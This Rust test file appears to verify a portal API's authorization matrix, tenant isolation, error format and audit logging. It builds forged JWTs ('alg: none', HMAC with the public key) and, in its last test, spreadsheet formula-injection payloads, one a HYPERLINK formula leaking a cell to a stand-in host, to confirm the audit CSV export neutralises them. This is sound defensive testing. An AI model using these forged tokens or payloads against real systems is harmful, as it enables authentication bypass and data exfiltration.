//! The auth matrix: every route the running server declares (read from its own
//! `/openapi.json`, not from a list kept here) × {no token, expired, wrong audience, wrong
//! issuer, bad signature, `alg: none`, HMAC with the public key, a federation key, each role,
//! another tenant}. A route added without a guard fails here.
//!
//! What a route *should* require is not taken from the document the server enforces: it comes
//! from the product's role table, `docs/roles.md`, written independently. Each route must declare
//! the permission the docs give its operation, and each role must get what the docs give it —
//! with a valid request on a fresh fixture, so an allowed role must get a 2xx (a 500 or a 422
//! fails), and a denied one a 403 that changes nothing.

use crate::roles::{read_role_doc, role_in_code, Cell, Credential, Operation, SIGN_IN};
use crate::{actor, json_of, seed, Fixture, Seeded};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use domain::{Actor, Role};
use portal::prelude::*;
use portal::{LocalPortal, NewClient, NewIntegration, NewKey, NewOidc};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::collections::BTreeSet;
use std::sync::Arc;
use store::prelude::*;
use stories::remote::{SigningPair, TestIssuer};
use stories::{admin, TestDb};

// ---------------------------------------------------------------------------------------------
// The routes, as the server declares them

#[derive(Debug, Clone, PartialEq)]
enum Guard {
    Public,
    Partner,
    User(Option<String>),
}

fn guard(op: &Value, what: &str) -> Guard {
    let reqs = op["security"].as_array().unwrap_or_else(|| {
        panic!("{what} declares no security: every route must declare its guard")
    });
    assert_eq!(reqs.len(), 1, "{what}: one security requirement");
    let req = reqs[0].as_object().expect("object");
    if req.is_empty() {
        Guard::Public
    } else if req.contains_key("federation_key") {
        Guard::Partner
    } else {
        let scopes = req["bearer"].as_array().expect("bearer scopes");
        Guard::User(scopes.first().and_then(Value::as_str).map(str::to_string))
    }
}

/// What the docs say the route's guard must be.
fn documented_guard(op: &Operation) -> Guard {
    match op.credential {
        Credential::None => Guard::Public,
        Credential::FederationKey => Guard::Partner,
        Credential::Bearer => Guard::User(op.permission.clone().filter(|p| p != SIGN_IN)),
    }
}

#[derive(Debug)]
struct Route {
    method: Method,
    path: String,
    declared: Guard,
    /// The success statuses the route documents.
    success: Vec<u16>,
}

fn routes_of(doc: &Value) -> Vec<Route> {
    let paths = doc["paths"].as_object().expect("paths");
    let mut routes = Vec::new();
    for (path, item) in paths {
        for m in ["get", "post", "put", "patch", "delete"] {
            let Some(op) = item.get(m) else { continue };
            let what = format!("{} {path}", m.to_uppercase());
            let success = op["responses"]
                .as_object()
                .map(|r| {
                    r.keys()
                        .filter_map(|k| k.parse::<u16>().ok())
                        .filter(|s| (200..300).contains(s))
                        .collect()
                })
                .unwrap_or_default();
            routes.push(Route {
                method: Method::from_bytes(m.to_uppercase().as_bytes()).unwrap(),
                path: path.clone(),
                declared: guard(op, &what),
                success,
            });
        }
    }
    routes
}

// ---------------------------------------------------------------------------------------------
// Valid requests on fresh fixtures

/// One request, ready to send.
#[derive(Debug)]
struct Call {
    path: String,
    body: Option<Value>,
}

/// Makes what a valid call of this route needs — a fresh resource for each call that changes or
/// removes one — and returns the request. `org` is the organisation a `/v1/clients/{id}` read is
/// about (the caller's own, for a client-role caller).
/// Actions that are not reads but change nothing (so leave no audit event).
/// (A job run here finds nothing due: the fixtures' incidents are minutes old.)
const CHANGE_NOTHING: [&str; 4] = [
    "/v1/oidc/{id}/test",
    "/v1/audit/verification",
    "/v1/jobs/{name}/runs",
    "/v1/analytics/funnels/run",
];

async fn prepare(p: &LocalPortal, s: &Seeded, method: &Method, route: &str, org: &str) -> Call {
    let a = admin();
    let n = uuid::Uuid::new_v4().simple().to_string()[..8].to_string();
    let fresh_key = || async {
        p.create_key(
            &a,
            NewKey {
                name: format!("matrix {n}"),
                expires_in: None,
            },
            None,
        )
        .await
        .expect("fixture: key")
    };
    let fresh_oidc = || async {
        p.create_oidc(
            &a,
            NewOidc {
                issuer: format!("https://idp-{n}.example.com"),
                client_id: "portal".into(),
                redirect_uri: "https://portal.example.com/cb".into(),
                client_secret: Some(domain::Sensitive::new("fixture-secret".into())),
                enabled: true,
            },
            None,
        )
        .await
        .expect("fixture: OIDC configuration")
        .id
        .to_string()
    };
    let fresh_integration = || async {
        p.create_integration(
            &a,
            NewIntegration {
                name: format!("Matrix {n}"),
                kind: "webhook".into(),
                config: domain::Sensitive::new(json!({"url": "https://hooks.example.com/x"})),
            },
            None,
        )
        .await
        .expect("fixture: integration")
        .id
        .to_string()
    };
    let fresh_org = || async {
        p.create_client(
            &a,
            NewClient {
                name: format!("Escalated {n}"),
                plan: "pro".into(),
                status: "active".into(),
            },
            None,
        )
        .await
        .expect("fixture: client")
        .id
    };
    let fresh_incident = || async {
        p.open_incident(
            &a,
            domain::model::OpenIncident {
                id: None,
                title: format!("Matrix incident {n}"),
                severity: domain::model::Severity::Sev2,
                org_id: Some(org.parse().expect("an organisation id")),
                impact_started_at: None,
                occurred_at: None,
            },
        )
        .await
        .expect("fixture: incident")
        .incident
        .id
    };
    let policy_body = |org: uuid::Uuid| {
        json!({
            "name": format!("Policy {n}"),
            "org_id": org,
            "rules": [{"after_mins": 15, "condition": "unacknowledged", "min_severity": "sev2",
                       "targets": [{"type": "role", "role": "support"}]}],
        })
    };
    let fresh_policy = || async {
        let input: domain::model::PolicyInput =
            serde_json::from_value(policy_body(fresh_org().await)).expect("a policy");
        p.create_escalation_policy(&a, input)
            .await
            .expect("fixture: escalation policy")
            .id
    };
    let with = |path: String, body: Option<Value>| Call { path, body };
    match (method.as_str(), route) {
        ("POST", "/v1/keys") => with(
            route.into(),
            Some(json!({"name": format!("created {n}"), "expires_in": "90d"})),
        ),
        ("GET", "/v1/keys/{id}") => with(format!("/v1/keys/{}", s.key_id), None),
        ("POST", "/v1/keys/{id}/revoke") => {
            let k = fresh_key().await;
            with(format!("/v1/keys/{}/revoke", k.key.id), None)
        }
        ("POST", "/v1/keys/revoke") => {
            let (k1, k2) = (fresh_key().await, fresh_key().await);
            with(
                route.into(),
                Some(json!({"ids": [k1.key.id.to_string(), k2.key.id.to_string()]})),
            )
        }
        ("POST", "/v1/keys/{id}/rotate") => {
            let k = fresh_key().await;
            with(
                format!("/v1/keys/{}/rotate", k.key.id),
                Some(json!({"overlap": "1h"})),
            )
        }
        ("POST", "/v1/keys/{id}/end-overlap") => {
            let k = fresh_key().await;
            p.rotate_key(&a, k.key.id.as_str(), "1h", None)
                .await
                .expect("fixture: a key in its overlap");
            with(format!("/v1/keys/{}/end-overlap", k.key.id), None)
        }
        ("POST", "/v1/federation/verify") => with(route.into(), None),
        ("POST", "/v1/audit/verification") => {
            let cp = p
                .audit_checkpoint(&a)
                .await
                .expect("fixture: a checkpoint");
            with(route.into(), Some(json!({ "against": cp })))
        }
        ("POST", "/v1/oidc") => with(
            route.into(),
            Some(json!({
                "issuer": format!("https://created-{n}.example.com"),
                "client_id": "portal",
                "redirect_uri": "https://portal.example.com/cb",
                "client_secret": "a-new-secret",
                "enabled": true,
            })),
        ),
        ("GET", "/v1/oidc/{id}") => with(format!("/v1/oidc/{}", s.oidc_id), None),
        ("PATCH", "/v1/oidc/{id}") => with(
            format!("/v1/oidc/{}", fresh_oidc().await),
            Some(json!({"client_id": "portal-2", "client_secret": "rotated-secret"})),
        ),
        ("PUT", "/v1/oidc/{id}/enabled") => with(
            format!("/v1/oidc/{}/enabled", fresh_oidc().await),
            Some(json!({"enabled": false})),
        ),
        ("DELETE", "/v1/oidc/{id}") => with(format!("/v1/oidc/{}", fresh_oidc().await), None),
        ("POST", "/v1/oidc/{id}/test") => with(format!("/v1/oidc/{}/test", s.probe_oidc_id), None),
        // Refused for every role here (the workspace holds fixtures): see the matrix's note.
        ("POST", "/v1/workspace/seed") => with(route.into(), None),
        ("POST", "/v1/integrations") => with(
            route.into(),
            Some(json!({
                "name": format!("Created {n}"),
                "type": "stripe",
                "config": {"api_key": "sk_test_matrix"},
            })),
        ),
        ("GET", "/v1/integrations/{id}") => {
            with(format!("/v1/integrations/{}", s.integration_id), None)
        }
        ("PATCH", "/v1/integrations/{id}") => with(
            format!("/v1/integrations/{}", fresh_integration().await),
            Some(json!({"name": format!("Renamed {n}")})),
        ),
        ("PUT", "/v1/integrations/{id}/paused") => with(
            format!("/v1/integrations/{}/paused", fresh_integration().await),
            Some(json!({"paused": true})),
        ),
        ("POST", "/v1/integrations/{id}/syncs") => with(
            format!("/v1/integrations/{}/syncs", fresh_integration().await),
            Some(json!({"error": null})),
        ),
        ("DELETE", "/v1/integrations/{id}") => with(
            format!("/v1/integrations/{}", fresh_integration().await),
            None,
        ),
        ("POST", "/v1/clients") => with(
            route.into(),
            Some(json!({"name": format!("Org {n}"), "plan": "pro", "status": "active"})),
        ),
        ("GET", "/v1/clients/{id}") => with(format!("/v1/clients/{org}"), None),
        ("PATCH", "/v1/clients/{id}") => {
            let c = p
                .create_client(
                    &a,
                    NewClient {
                        name: format!("To rename {n}"),
                        plan: "pro".into(),
                        status: "active".into(),
                    },
                    None,
                )
                .await
                .expect("fixture: client");
            with(
                format!("/v1/clients/{}", c.id),
                Some(json!({"name": format!("Renamed {n}")})),
            )
        }
        ("POST", "/v1/jobs/{name}/runs") => with("/v1/jobs/escalations/runs".into(), None),
        ("POST", "/v1/incidents") => with(
            route.into(),
            Some(json!({"title": format!("Opened {n}"), "severity": "sev3", "org_id": org})),
        ),
        ("GET", "/v1/incidents/{id}") => {
            with(format!("/v1/incidents/{}", fresh_incident().await), None)
        }
        ("POST", "/v1/incidents/{id}/comments") => with(
            format!("/v1/incidents/{}/comments", fresh_incident().await),
            Some(json!({"text": format!("Looking into it {n}")})),
        ),
        ("POST", "/v1/incidents/{id}/changes") => with(
            format!("/v1/incidents/{}/changes", fresh_incident().await),
            Some(json!({"command": "acknowledge"})),
        ),
        // A new device each time, pushing one comment (an allowed push leaves an audit event
        // even when a mutation is rejected).
        ("POST", "/v1/sync/push") => with(
            route.into(),
            Some(json!({
                "client_id": uuid::Uuid::new_v4(),
                "mutations": [{
                    "mutation_id": 1,
                    "incident_id": fresh_incident().await,
                    "event_id": uuid::Uuid::now_v7(),
                    "name": "change_incident",
                    "args": {"command": "comment", "text": format!("Offline note {n}")},
                    "base_version": 1,
                    "occurred_at": domain::Timestamp::from_millis(1_800_000_000_000),
                }],
            })),
        ),
        // A new value each time, so an allowed call is a change (and leaves an audit event).
        ("PUT", "/v1/sla") => with(
            route.into(),
            Some(json!({"targets": [{"severity": "sev4",
                "target_response_mins": rand::random::<u32>() % 1000 + 1,
                "target_resolve_mins": 10_000}]})),
        ),
        ("POST", "/v1/escalation-policies") => {
            with(route.into(), Some(policy_body(fresh_org().await)))
        }
        ("PUT", "/v1/escalation-policies/{id}") => {
            let id = fresh_policy().await;
            with(
                format!("/v1/escalation-policies/{id}"),
                Some(policy_body(fresh_org().await)),
            )
        }
        ("DELETE", "/v1/escalation-policies/{id}") => with(
            format!("/v1/escalation-policies/{}", fresh_policy().await),
            None,
        ),
        // A real rotation: the fixture's master keys live in a file the portal may extend.
        ("POST", "/v1/secrets/rotations") => {
            with(route.into(), Some(json!({"dry_run": false, "batch_size": 50})))
        }
        // Analytics: a new event (or subscription) each time; a refresh with a new fact to
        // recompute; a funnel (a read sent as a body).
        ("POST", "/v1/events") => with(route.into(), Some(json!({"events": [event_json(org)]}))),
        ("POST", "/v1/analytics/subscription-changes") => with(
            route.into(),
            Some(json!({"changes": [{
                "id": uuid::Uuid::new_v4(),
                "subscription_id": uuid::Uuid::new_v4(),
                "org_id": org,
                "day": "2026-11-01",
                "seq": 0,
                "event": {"type": "started", "plan_id": "pro", "quantity": 1,
                    "price": {"amount_minor": 4_900, "currency": "EUR", "interval": "month"}},
            }]})),
        ),
        ("POST", "/v1/analytics/refresh") => {
            let fact: domain::analytics::ProductEvent =
                serde_json::from_value(event_json(org)).expect("fixture: event");
            p.ingest_events(&a, vec![fact])
                .await
                .expect("fixture: event");
            with(route.into(), Some(json!({"full": false})))
        }
        ("POST", "/v1/analytics/funnels/run") => with(
            route.into(),
            Some(json!({"steps": ["signup", "active"], "window_ms": 86_400_000})),
        ),
        ("POST", "/v1/analytics/funnels") => with(
            route.into(),
            Some(json!({"name": format!("funnel {n}"), "steps": ["signup", "active"], "window_ms": 86_400_000})),
        ),
        ("GET" | "DELETE", "/v1/analytics/funnels/{id}") => {
            let new = portal::analytics::NewFunnel {
                name: format!("funnel {n}"),
                spec: domain::analytics::FunnelSpec {
                    steps: vec!["signup".into(), "active".into()],
                    window_ms: 86_400_000,
                    step_windows_ms: Vec::new(),
                    exclusions: Vec::new(),
                },
                by: None,
            };
            let f = p.save_funnel(&a, new).await.expect("fixture: funnel");
            with(format!("/v1/analytics/funnels/{}", f.id), None)
        }
        ("GET", r) if !r.contains('{') => with(route.into(), None),
        _ => panic!(
            "{method} {route} has no valid example request in the auth matrix: teach `prepare` one (and give it a fresh fixture if it changes one)"
        ),
    }
}

/// A product event of `org`, new each time, a week before the fixtures' time.
fn event_json(org: &str) -> Value {
    json!({
        "id": uuid::Uuid::new_v4(),
        "org_id": org,
        "user_id": "user-1",
        "name": "active",
        "at": domain::Timestamp::from_millis(1_795_000_000_000),
    })
}

fn forged_none(claims: &Value) -> String {
    let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"none","typ":"JWT","kid":"x"}"#);
    let c = URL_SAFE_NO_PAD.encode(claims.to_string());
    format!("{h}.{c}.")
}

fn forged_hmac(claims: &Value, kid: &str, secret: &[u8]) -> String {
    let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256);
    header.kid = Some(kid.to_string());
    jsonwebtoken::encode(
        &header,
        claims,
        &jsonwebtoken::EncodingKey::from_secret(secret),
    )
    .expect("hmac token")
}

/// A server whose master keys live in a file (so a real master-key rotation can run).
async fn start_with_key_file(dir: &std::path::Path) -> Fixture {
    let db = TestDb::new(stories::Backend::Postgres).await;
    let issuer = Arc::new(TestIssuer::start().await);
    let keys = Arc::new(portal::secrets::FileKeys::new(dir.join("master.key")));
    let clock = Arc::new(domain::ManualClock::at(stories::T0));
    let local = LocalPortal::open(db.arc(), keys, clock)
        .await
        .expect("portal opens")
        .with_fetcher(stories::fetcher());
    Fixture::serve(db, issuer, local, &[]).await
}

impl Fixture {
    async fn send(&self, method: &Method, call: &Call, token: Option<&str>) -> reqwest::Response {
        let mut r = self.http.request(method.clone(), self.url(&call.path));
        if let Some(t) = token {
            r = r.bearer_auth(t);
        }
        if let Some(b) = &call.body {
            r = r.json(b);
        }
        r.send().await.expect("the server answers")
    }

    async fn audit_head(&self) -> i64 {
        self.db.store.audit_head().await.expect("audit head").0
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_route_is_guarded_and_each_role_gets_what_the_role_table_says() {
    let doc = read_role_doc();
    let keys_dir = tempfile::tempdir().expect("temp dir");
    let f = start_with_key_file(keys_dir.path()).await;
    let mut s = seed(f.portal()).await;
    s.probe_oidc_id = f
        .portal()
        .create_oidc(
            &admin(),
            NewOidc {
                issuer: f.issuer.url.clone(),
                client_id: "portal".into(),
                redirect_uri: "https://portal.example.com/cb".into(),
                client_secret: None,
                enabled: false,
            },
            None,
        )
        .await
        .expect("fixture: an OIDC configuration whose issuer answers")
        .id
        .to_string();
    let openapi: Value = json_of(f.http.get(f.url("/openapi.json")).send().await.unwrap()).await;
    let routes = routes_of(&openapi);
    assert!(routes.len() >= 20, "the document lists the router's routes");

    // Every route is in the docs, with the guard the docs give its operation, and every route
    // in the docs is served.
    let served: BTreeSet<(String, String)> = routes
        .iter()
        .map(|r| (r.method.to_string(), r.path.clone()))
        .collect();
    for ((m, p), op) in &doc.routes {
        assert!(
            served.contains(&(m.clone(), p.clone())),
            "docs/roles.md lists {m} {p} ({}), which the server does not serve",
            op.name
        );
    }
    for r in &routes {
        let what = format!("{} {}", r.method, r.path);
        let op = doc
            .routes
            .get(&(r.method.to_string(), r.path.clone()))
            .unwrap_or_else(|| {
                panic!("{what} is not in docs/roles.md: add its operation, credential and permission to the Operations table")
            });
        assert_eq!(
            r.declared,
            documented_guard(op),
            "{what} ({}) must declare the guard docs/roles.md gives it",
            op.name
        );
    }

    // The principals: one per role of the docs the code has.
    let own: uuid::Uuid = s.own_org.parse().unwrap();
    let mut principals: Vec<(String, Actor)> = Vec::new();
    for r in doc.roles.iter().filter(|r| !r.planned) {
        let role = role_in_code(&r.name, own).unwrap_or_else(|| {
            panic!(
                "docs/roles.md names the role {}, unknown to the code",
                r.name
            )
        });
        principals.push((r.name.clone(), actor(&format!("user:{}", r.name), role)));
    }
    assert!(
        principals.len() >= 4,
        "provider, developer, client, partner"
    );

    let provider = actor("user:alice", Role::Provider);
    let now = jsonwebtoken::get_current_timestamp();
    let base = f.issuer.claims_for(&provider);
    let mut expired = base.clone();
    expired["exp"] = json!(now - 600);
    expired["iat"] = json!(now - 900);
    let mut wrong_aud = base.clone();
    wrong_aud["aud"] = json!("another-api");
    let mut wrong_iss = base.clone();
    wrong_iss["iss"] = json!("https://evil.example.com");
    let impostor = SigningPair::generate(&f.issuer.key.kid);
    let public_jwk = f.issuer.key.jwk.to_string();
    let bad_tokens: Vec<(&str, String)> = vec![
        ("expired", f.issuer.sign(&expired)),
        ("wrong audience", f.issuer.sign(&wrong_aud)),
        ("wrong issuer", f.issuer.sign(&wrong_iss)),
        ("bad signature", impostor.sign(&base)),
        ("alg none", forged_none(&base)),
        (
            "HMAC with the public key",
            forged_hmac(&base, &f.issuer.key.kid, public_jwk.as_bytes()),
        ),
        ("federation key", s.full_key.clone()),
        ("garbage", "not-a-jwt".into()),
    ];

    let mut checked = 0;
    for r in &routes {
        let what = format!("{} {}", r.method, r.path);
        let op = &doc.routes[&(r.method.to_string(), r.path.clone())];
        let declared_2xx = |status: StatusCode| r.success.contains(&status.as_u16());
        match op.credential {
            Credential::None => {
                let call = prepare(f.portal(), &s, &r.method, &r.path, &s.own_org).await;
                let res = f.send(&r.method, &call, None).await;
                assert!(
                    declared_2xx(res.status()),
                    "{what} is public and must answer without a token with a documented success, got {}",
                    res.status()
                );
            }
            Credential::FederationKey => {
                let call = prepare(f.portal(), &s, &r.method, &r.path, &s.own_org).await;
                let res = f.send(&r.method, &call, None).await;
                assert_eq!(
                    res.status(),
                    StatusCode::UNAUTHORIZED,
                    "{what} without a key"
                );
                assert!(
                    res.headers().contains_key("www-authenticate"),
                    "{what}: 401 says how to authenticate"
                );
                for (name, who) in &principals {
                    let res = f.send(&r.method, &call, Some(&f.token(who))).await;
                    assert_eq!(
                        res.status(),
                        StatusCode::UNAUTHORIZED,
                        "{what}: an access token ({name}) is not a federation key"
                    );
                }
                let permission = op.permission.as_deref().expect("a permission");
                assert_eq!(
                    doc.cell(permission, "partner"),
                    Cell::Yes,
                    "{what}: docs/roles.md lets partners (who present the key) {permission}"
                );
                let res = f.send(&r.method, &call, Some(&s.full_key)).await;
                let status = res.status();
                assert!(
                    declared_2xx(status),
                    "{what} with a valid key: got {status} {}",
                    json_of(res).await
                );
                let revoked = f
                    .portal()
                    .create_key(
                        &admin(),
                        NewKey {
                            name: "revoked".into(),
                            expires_in: None,
                        },
                        None,
                    )
                    .await
                    .unwrap();
                f.portal()
                    .revoke_key(&admin(), revoked.key.id.as_str(), None)
                    .await
                    .unwrap();
                let res = f
                    .send(&r.method, &call, Some(revoked.full_key.expose()))
                    .await;
                assert_eq!(
                    res.status(),
                    StatusCode::UNAUTHORIZED,
                    "{what}: a revoked key is refused"
                );
            }
            Credential::Bearer => {
                let permission = op.permission.as_deref().unwrap_or(SIGN_IN);
                let call = prepare(f.portal(), &s, &r.method, &r.path, &s.own_org).await;
                let res = f.send(&r.method, &call, None).await;
                assert_eq!(
                    res.status(),
                    StatusCode::UNAUTHORIZED,
                    "{what} without a token"
                );
                assert!(
                    res.headers().contains_key("www-authenticate"),
                    "{what}: 401 carries WWW-Authenticate"
                );
                assert_eq!(
                    res.headers()["content-type"],
                    "application/problem+json",
                    "{what}: errors are problem+json"
                );
                for (why, token) in &bad_tokens {
                    let res = f.send(&r.method, &call, Some(token)).await;
                    assert_eq!(
                        res.status(),
                        StatusCode::UNAUTHORIZED,
                        "{what} with a token that is {why}"
                    );
                }
                let mut succeeded = 0;
                for (name, who) in &principals {
                    let cell = doc.cell(permission, name);
                    // A fresh fixture per principal: a delete or revoke allowed for one role
                    // must not leave nothing for the next.
                    let call = prepare(f.portal(), &s, &r.method, &r.path, &s.own_org).await;
                    let head = f.audit_head().await;
                    let res = f.send(&r.method, &call, Some(&f.token(who))).await;
                    let status = res.status();
                    let body = json_of(res).await;
                    if r.path == "/v1/workspace/seed" && cell != Cell::No {
                        // Seeding needs an empty workspace and this one holds the fixtures: an
                        // allowed role passes the guard and meets the rule (409, nothing
                        // written). `errors::seeding_an_empty_workspace_through_the_api` shows
                        // it succeed.
                        assert_eq!(status, StatusCode::CONFLICT, "{what} as {name}: {body}");
                        assert_eq!(f.audit_head().await, head, "{what} as {name}");
                        succeeded += 1;
                        continue;
                    }
                    match cell {
                        Cell::Yes | Cell::Own => {
                            assert!(
                                declared_2xx(status),
                                "{what} as {name}: docs/roles.md gives {name} {permission} ({cell:?}), so a valid request must succeed with a documented 2xx {:?}; got {status} {body}",
                                r.success
                            );
                            succeeded += 1;
                            let after = f.audit_head().await;
                            if r.method == Method::GET || CHANGE_NOTHING.contains(&r.path.as_str())
                            {
                                assert_eq!(after, head, "{what} as {name}: a read writes nothing");
                            } else {
                                assert!(
                                    after > head,
                                    "{what} as {name}: an allowed change leaves an audit event"
                                );
                            }
                        }
                        Cell::No => {
                            assert_eq!(
                                status,
                                StatusCode::FORBIDDEN,
                                "{what} as {name}: docs/roles.md denies {name} {permission}; got {body}"
                            );
                            assert_eq!(body["code"], "forbidden", "{what} as {name}: {body}");
                            assert_eq!(
                                f.audit_head().await,
                                head,
                                "{what} as {name}: a refused request changes nothing"
                            );
                        }
                    }
                    // A saved funnel belongs to no organisation: a client reads any of them, over
                    // its own organisation's subjects (the conformance story checks which).
                    if cell == Cell::Own
                        && r.path.contains("{id}")
                        && !r.path.starts_with("/v1/analytics/funnels/")
                    {
                        let elsewhere =
                            prepare(f.portal(), &s, &r.method, &r.path, &s.other_org).await;
                        let res = f.send(&r.method, &elsewhere, Some(&f.token(who))).await;
                        assert_eq!(
                            res.status(),
                            StatusCode::NOT_FOUND,
                            "{what} as {name} on another organisation: it must look absent"
                        );
                    }
                }
                assert!(
                    succeeded > 0,
                    "{what}: no role of docs/roles.md may call it, so the matrix never saw it work"
                );
            }
        }
        checked += 1;
    }
    assert_eq!(checked, routes.len());

    // What each signed-in role is told it may do (the desktop and the CLI show and hide actions
    // by it) is what the docs give it.
    for (name, who) in &principals {
        if doc.cell(SIGN_IN, name) == Cell::No {
            continue;
        }
        let me = json_of(f.get("/v1/me", &f.token(who)).await).await;
        assert_eq!(me["role"], name.as_str(), "/v1/me names the role: {me}");
        let told: BTreeSet<String> = me["permissions"]
            .as_array()
            .unwrap_or_else(|| panic!("/v1/me lists permissions: {me}"))
            .iter()
            .filter_map(|p| p.as_str().map(str::to_string))
            .collect();
        let documented: BTreeSet<String> = doc
            .grants
            .keys()
            .filter(|p| *p != SIGN_IN && doc.cell(p, name) != Cell::No)
            .cloned()
            .collect();
        assert_eq!(
            told, documented,
            "/v1/me as {name}: the permissions the role is told it has are the ones docs/roles.md gives it"
        );
    }

    // Another tenant's resource is a 404, as if it did not exist; its own is visible.
    let client = actor("user:tenant", Role::Client(own));
    let t = f.token(&client);
    let other = f.get(&format!("/v1/clients/{}", s.other_org), &t).await;
    assert_eq!(
        other.status(),
        StatusCode::NOT_FOUND,
        "another tenant's organisation must look absent"
    );
    let mine = f.get(&format!("/v1/clients/{}", s.own_org), &t).await;
    assert_eq!(mine.status(), StatusCode::OK);
    let list = json_of(f.get("/v1/clients", &t).await).await;
    let ids: Vec<&str> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, vec![s.own_org.as_str()], "a tenant lists only itself");

    f.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn errors_are_problem_documents_with_the_request_id() {
    let f = Fixture::start(&[]).await;
    let token = f.token(&actor("user:alice", Role::Provider));

    let r = f
        .http
        .post(f.url("/v1/keys"))
        .bearer_auth(&token)
        .header("content-type", "application/json")
        .header("x-request-id", "req-12345")
        .body("{not json")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.headers()["x-request-id"], "req-12345");
    let p = json_of(r).await;
    assert_eq!(p["code"], "invalid");
    assert_eq!(
        p["request_id"], "req-12345",
        "the problem names the request"
    );
    assert_eq!(p["fields"][0]["field"], "body");

    let r = f
        .http
        .post(f.url("/v1/keys"))
        .bearer_auth(&token)
        .json(&json!({"name": ""}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let p = json_of(r).await;
    assert_eq!(
        p["fields"][0]["field"], "name",
        "field errors name the field: {p}"
    );
    assert!(p["request_id"].as_str().is_some_and(|s| !s.is_empty()));

    let r = f.get("/v1/keys/0000000000000000", &token).await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_eq!(r.headers()["content-type"], "application/problem+json");

    let r = f.http.get(f.url("/v1/nothing-here")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_eq!(json_of(r).await["code"], "not_found");

    let r = f.get("/v1/keys?limit=lots", &token).await;
    assert_eq!(
        r.status(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "a bad query is invalid input"
    );

    let head_before = f.audit_head().await;
    let r = f
        .http
        .post(f.url("/v1/keys/0000000000000000/rotate"))
        .bearer_auth(&token)
        .json(&json!({"overlap": "forever"}))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_client_error());
    assert_eq!(
        head_before,
        f.audit_head().await,
        "bad input changes nothing"
    );
    f.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_served_document_is_the_committed_one() {
    let f = Fixture::start(&[]).await;
    let served: Value = json_of(f.http.get(f.url("/openapi.json")).send().await.unwrap()).await;
    let generated = serde_json::to_value(server::openapi()).unwrap();
    assert_eq!(served, generated);
    assert!(
        served["openapi"].as_str().unwrap().starts_with("3.1"),
        "OpenAPI 3.1"
    );
    f.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn audit_events_carry_the_actor_ip_user_agent_and_request_id() {
    let f = Fixture::start(&[]).await;
    let dev = actor("user:dev", Role::Developer);
    let r = f
        .http
        .post(f.url("/v1/keys"))
        .bearer_auth(f.token(&dev))
        .header("x-request-id", "req-audit-1")
        .header("user-agent", "acceptance/1.0")
        .header("x-forwarded-for", "198.51.100.23")
        .json(&json!({"name": "from-the-api"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let id = json_of(r).await["key"]["id"].as_str().unwrap().to_string();
    let admin = f.token(&actor("user:alice", Role::Provider));
    let page = json_of(
        f.get(
            &format!("/v1/audit?entity_type=federation_key&entity_id={id}"),
            &admin,
        )
        .await,
    )
    .await;
    let e = &page["items"][0];
    assert_eq!(e["action"], "create");
    assert_eq!(
        e["actor_id"],
        format!("{}#user:dev", f.issuer.url),
        "the actor is the token's subject, namespaced by its issuer"
    );
    assert_eq!(
        e["ip"], "198.51.100.23",
        "X-Forwarded-For from a trusted proxy names the client"
    );
    assert_eq!(e["ua"], "acceptance/1.0");
    assert_eq!(e["request_id"], "req-audit-1");
    let chain = json_of(f.get("/v1/audit/verification", &admin).await).await;
    assert!(
        chain["first_broken"].is_null(),
        "the request id is part of an intact chain"
    );
    f.finish().await;
}

/// Formula injection: a token's `name` claim, a `User-Agent` and an `X-Request-Id` are the
/// caller's to choose and reach the audit export; in the CSV they are text, never formulas.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_audit_export_neutralises_formulas_from_the_token_and_headers() {
    let f = Fixture::start(&[]).await;
    let name = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Open")"#;
    let ua = "@SUM(1+1)*cmd|' /C calc'!A0";
    let request_id = "+SUM(1,2)";
    let dev = domain::Actor {
        name: name.into(),
        ..actor("user:formula", Role::Developer)
    };
    let r = f
        .http
        .post(f.url("/v1/keys"))
        .bearer_auth(f.token(&dev))
        .header("x-request-id", request_id)
        .header("user-agent", ua)
        .json(&json!({"name": "formula"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let id = json_of(r).await["key"]["id"].as_str().unwrap().to_string();
    let admin = f.token(&actor("user:alice", Role::Provider));
    let r = f
        .get(
            &format!("/v1/audit/export?entity_type=federation_key&entity_id={id}"),
            &admin,
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let text = r.text().await.unwrap();
    let mut csv = csv::Reader::from_reader(text.as_bytes());
    let headers = csv.headers().unwrap().clone();
    let column = |n: &str| headers.iter().position(|h| h == n).unwrap();
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    let row = &rows[0];
    assert_eq!(&row[column("actor_name")], format!("'{name}"), "{text}");
    assert_eq!(&row[column("ua")], format!("'{ua}"));
    assert_eq!(&row[column("request_id")], format!("'{request_id}"));
    for cell in row {
        assert!(
            !cell.starts_with(domain::spreadsheet::FORMULA_TRIGGERS),
            "a cell a spreadsheet would evaluate: {cell:?}"
        );
    }
    f.finish().await;
}
